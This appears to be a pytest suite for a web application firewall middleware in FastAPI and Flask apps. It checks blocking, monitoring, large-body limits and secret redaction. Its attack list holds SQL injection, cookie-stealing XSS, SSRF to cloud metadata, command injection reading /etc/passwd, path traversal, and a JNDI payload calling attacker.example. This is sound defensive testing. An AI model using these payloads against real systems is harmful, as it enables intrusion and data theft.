"""The middleware in real apps under real servers: FastAPI under uvicorn, Flask under waitress,
driven over HTTP on loopback."""

from __future__ import annotations

import hashlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.appsec.servers import calls, findings, start_fastapi, start_flask
from tests.harness.services import Service

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"  # a made-up token in GitHub's format


def wait_findings(service: Service, count: int) -> list[dict]:
    """The findings file once it holds `count` entries (written off the request path)."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        found = findings(service)
        if len(found) >= count:
            return found
        time.sleep(0.05)
    return findings(service)


@pytest.fixture(scope="module", params=["fastapi", "flask"])
def blocking(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    policy = tmp_path_factory.mktemp("policy") / "policy.yaml"
    policy.write_text(
        "mode: block\nroutes:\n  - path: /search\n    exclusions:\n      - rule: appsec.sqli\n"
        "        locations: ['args:q']\n"
    )
    service = (start_fastapi if request.param == "fastapi" else start_flask)("block", policy=policy)
    yield service
    service.stop()


@pytest.fixture(scope="module", params=["fastapi", "flask"])
def monitoring(request: pytest.FixtureRequest) -> Iterator[Service]:
    service = (start_fastapi if request.param == "fastapi" else start_flask)("monitor")
    yield service
    service.stop()


def client(service: Service) -> httpx.Client:
    return httpx.Client(base_url=str(service.url), trust_env=False, timeout=30)


ATTACKS = [
    ("GET", "/items", {"params": {"id": "1' OR '1'='1"}}, "appsec.sqli"),
    ("POST", "/comments", {"data": {"text": "<script>alert(document.cookie)</script>"}}, "appsec.xss"),
    ("POST", "/api", {"json": {"fetch": {"url": "http://169.254.169.254/latest/meta-data/"}}}, "appsec.ssrf_metadata"),
    ("GET", "/ping", {"params": {"host": "127.0.0.1; cat /etc/passwd"}}, "appsec.cmdi"),
    ("GET", "/files", {"params": {"name": "../../../etc/shadow"}}, "appsec.lfi"),
    ("GET", "/", {"headers": {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}}, "appsec.jndi"),
    ("GET", "/", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}, "appsec.scanner"),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "rule"), ATTACKS)
def test_block_mode_refuses_before_the_handler(
    blocking: Service, method: str, path: str, kwargs: dict, rule: str
) -> None:
    before = len(calls(blocking))
    with client(blocking) as http:
        answer = http.request(method, path, **kwargs)
    assert answer.status_code == 403
    body = answer.json()
    assert set(body) == {"error", "incident_id"} and body["incident_id"] == answer.headers["x-cloudward-incident"]
    assert "x-app" not in answer.headers and len(calls(blocking)) == before  # the app never saw it
    recorded = [f for f in wait_findings(blocking, 1) if f["evidence"]["incident_id"] == body["incident_id"]]
    deadline = time.monotonic() + 10
    while not recorded and time.monotonic() < deadline:
        time.sleep(0.05)
        recorded = [f for f in findings(blocking) if f["evidence"]["incident_id"] == body["incident_id"]]
    assert rule in {f["rule_id"] for f in recorded}
    assert all(f["evidence"]["action"] == "blocked" and f["category"] == "appsec" for f in recorded)


def test_benign_requests_are_untouched(blocking: Service) -> None:
    payload = {"name": "O'Reilly", "title": "select a book", "tags": ["a", "b"], "note": "Tom & Jerry"}
    raw = json.dumps(payload).encode()
    with client(blocking) as http:
        answer = http.post(
            "/books",
            content=raw,
            headers={"content-type": "application/json", "x-test": "kept"},
            params={"q": "select a book", "page": "2"},
        )
        assert answer.status_code == 200, answer.text
        echoed = answer.json()
        assert echoed["body_sha256"] == hashlib.sha256(raw).hexdigest() and echoed["body_size"] == len(raw)
        assert echoed["x_test"] == "kept" and echoed["query"] == "q=select+a+book&page=2"
        assert answer.headers["x-app"] == "yes"
        streamed = http.get("/stream")
        assert streamed.status_code == 200 and streamed.text == "".join(f"chunk {i}\n" for i in range(50))
        form = http.post("/form", data={"a": "1", "b": "two words"})
        assert form.status_code == 200


def test_route_exclusion_is_local(blocking: Service) -> None:
    with client(blocking) as http:
        assert http.get("/search", params={"q": "1' OR '1'='1"}).status_code == 200  # excluded here
        assert http.get("/search", params={"other": "1' OR '1'='1"}).status_code == 403
        assert http.get("/elsewhere", params={"q": "1' OR '1'='1"}).status_code == 403


@pytest.mark.parametrize(("method", "path", "kwargs", "rule"), ATTACKS[:4])
def test_monitor_mode_records_and_passes(monitoring: Service, method: str, path: str, kwargs: dict, rule: str) -> None:
    before = len(calls(monitoring))
    with client(monitoring) as http:
        answer = http.request(method, path, **kwargs)
    assert answer.status_code == 200 and answer.headers["x-app"] == "yes"
    assert len(calls(monitoring)) == before + 1
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if any(f["rule_id"] == rule and f["location"]["path"] == path for f in findings(monitoring)):
            break
        time.sleep(0.05)
    mine = [f for f in findings(monitoring) if f["rule_id"] == rule and f["location"]["path"] == path]
    assert mine and mine[-1]["evidence"]["action"] == "monitored"


# --- hostile input ------------------------------------------------------------------------------


def _raw(service: Service, head: bytes, body_chunks: Iterator[bytes], *, pause: float = 0.0) -> tuple[int, bytes]:
    """Send a request with a streamed body on a plain socket; the status and body of the answer."""
    received: list[bytes] = []

    def read(sock: socket.socket) -> None:  # read while sending: an early answer must not be lost to a reset
        while True:
            try:
                piece = sock.recv(65536)
            except OSError:
                return
            if not piece:
                return
            received.append(piece)

    with socket.create_connection((service.host, service.port), timeout=60) as sock:
        reader = threading.Thread(target=read, args=(sock,))
        reader.start()
        sock.sendall(head)
        try:
            for chunk in body_chunks:
                sock.sendall(chunk)
                if pause:
                    time.sleep(pause)
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # answered early (413) and closed: the reader has the answer
        reader.join(60)
    data = b"".join(received)
    status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
    return status, data.partition(b"\r\n\r\n")[2]


def _rss_mib(service: Service, field: str) -> float:
    """A memory figure of the server process (uvicorn/waitress run in the service's own process)."""
    for line in Path(f"/proc/{service.pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no {field} in /proc/{service.pid}/status")


def _reset_peak(service: Service) -> None:
    """Start a fresh peak-RSS window so the figure is this request's, not start-up's (Linux >= 4.0)."""
    Path(f"/proc/{service.pid}/clear_refs").write_text("5")


HUNDRED_MB = 100 * 1024 * 1024
CHUNK = b"A" * (1024 * 1024)


@pytest.fixture(scope="module")
def fastapi_prefix(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    policy = tmp_path_factory.mktemp("prefix") / "policy.toml"
    policy.write_text('mode = "block"\nmax_body_bytes = 1048576\noversize = "inspect_prefix"\n')
    service = start_fastapi(policy=policy, mode=None, uploads=True)
    yield service
    service.stop()


def test_100mb_body_rejected_with_413(blocking: Service) -> None:
    head = (
        b"POST /count HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Length: %d\r\n\r\n" % HUNDRED_MB
    )
    status, body = _raw(blocking, head, iter([CHUNK] * 100))
    assert status == 413 and b"incident_id" in body
    with client(blocking) as http:
        assert http.get("/hello-again").status_code == 200  # still up


def test_100mb_body_streamed_through_with_bounded_memory(fastapi_prefix: Service) -> None:
    head = (
        b"POST /count HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Length: %d\r\nConnection: close\r\n\r\n" % HUNDRED_MB
    )
    with client(fastapi_prefix) as http:  # warm up: rule databases and caches loaded before measuring
        assert http.post("/count", content=CHUNK[:4096]).status_code == 200
    _reset_peak(fastapi_prefix)
    before = _rss_mib(fastapi_prefix, "VmRSS")
    status, body = _raw(fastapi_prefix, head, iter([CHUNK] * 100))
    assert status == 200, body
    answer = json.loads(body)
    assert answer["size"] == HUNDRED_MB
    assert answer["sha256"] == hashlib.sha256(CHUNK * 100).hexdigest()  # replayed unchanged
    grown = _rss_mib(fastapi_prefix, "VmHWM") - before
    assert grown < 40, f"peak grew {grown:.1f} MiB while streaming 100 MiB"  # never held the body
    assert "appsec.body_limit" in {f["rule_id"] for f in wait_findings(fastapi_prefix, 1)}


def test_attack_in_the_judged_prefix_of_a_large_body_is_blocked(fastapi_prefix: Service) -> None:
    first = b"q=" + b"1%27+OR+%271%27%3D%271&pad=" + b"x" * (2 * 1024 * 1024)
    head = (
        b"POST /count HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\n\r\n" % len(first)
    )
    status, _ = _raw(fastapi_prefix, head, iter([first]))
    assert status == 403


def test_hostile_bodies_do_not_crash(blocking: Service) -> None:
    with client(blocking) as http:
        deep = b"[" * 100_000 + b"]" * 100_000
        assert http.post("/x", content=deep, headers={"content-type": "application/json"}).status_code in (
            200,
            400,
            422,
        )
        assert (
            http.post("/x", content=b"\xff\xfe\xc0\xae%zz%u12", headers={"content-type": "text/plain"}).status_code
            == 200
        )
        # overlong %c0%ae is refused by appsec.encoding_evasion: an answer (not a crash) is what counts
        assert http.get("/x?a=%zz%ff%c0%ae&b=%u00").status_code in (200, 403)
        assert http.get("/x?a=%zz%ff&b=%u00").status_code == 200
        assert http.post(
            "/x", content=b"--x\r\nbroken", headers={"content-type": "multipart/form-data; boundary=x"}
        ).status_code in (200, 400)
        assert http.get("/still-alive").status_code == 200


def test_slow_upload_does_not_block_other_requests(blocking: Service) -> None:
    body = b"name=" + b"a" * 1000
    pieces = [body[i : i + 100] for i in range(0, len(body), 100)]
    head = (
        b"POST /count HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)
    )
    result: dict[str, tuple[int, bytes]] = {}
    slow = threading.Thread(target=lambda: result.setdefault("slow", _raw(blocking, head, iter(pieces), pause=0.1)))
    slow.start()
    with client(blocking) as http:
        others = [http.get("/other", params={"i": str(i)}).status_code for i in range(5)]
    slow.join(60)
    assert others == [200] * 5
    status, answer = result["slow"]
    assert status == 200 and json.loads(answer)["size"] == len(body)


def test_uploads_judged_and_secrets_never_stored(fastapi_prefix: Service) -> None:
    with client(fastapi_prefix) as http:
        leaked = http.post("/upload", files={"doc": ("config.env", f'GITHUB_TOKEN="{TOKEN}"\n'.encode(), "text/plain")})
        eicar = http.post("/upload", files={"doc": ("eicar.com", EICAR, "application/octet-stream")})
        clean = http.post("/upload", files={"doc": ("notes.txt", b"just some notes\n", "text/plain")})
    assert eicar.status_code == 403 and clean.status_code == 200
    assert leaked.status_code == 403
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not any(f["rule_id"].startswith("secret.") for f in findings(fastapi_prefix)):
        time.sleep(0.05)
    recorded = findings(fastapi_prefix)
    assert any(f["rule_id"].startswith("secret.") and f["location"]["location"] == "file:doc" for f in recorded)
    assert "appsec.upload_eicar" in {f["rule_id"] for f in recorded}
    text = (fastapi_prefix.dir / "findings.jsonl").read_text()
    assert TOKEN not in text and TOKEN[4:] not in text
